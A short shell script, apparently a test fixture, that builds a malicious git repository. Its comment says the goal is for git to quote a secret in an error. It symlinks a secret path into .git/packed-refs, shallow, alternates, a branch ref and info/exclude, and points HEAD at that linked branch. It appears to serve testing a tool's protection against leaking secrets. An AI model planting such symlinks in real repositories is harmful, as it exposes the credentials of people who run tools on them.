# The attacker wants git to quote the secret in an error: it is linked in the place of files that git reads.
git init -q
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
git add -A
git commit -q -m one
printf '\n\nasync def g():\n    f()\n' >> a.py
rm -f .git/packed-refs .git/shallow
ln -s "$SECRET" .git/packed-refs
ln -s "$SECRET" .git/shallow
mkdir -p .git/objects/info
ln -s "$SECRET" .git/objects/info/alternates
ln -s "$SECRET" .git/refs/heads/linked
rm -f .git/info/exclude
mkdir -p .git/info
ln -s "$SECRET" .git/info/exclude
rm .git/HEAD
printf 'ref: refs/heads/linked\n' > .git/HEAD
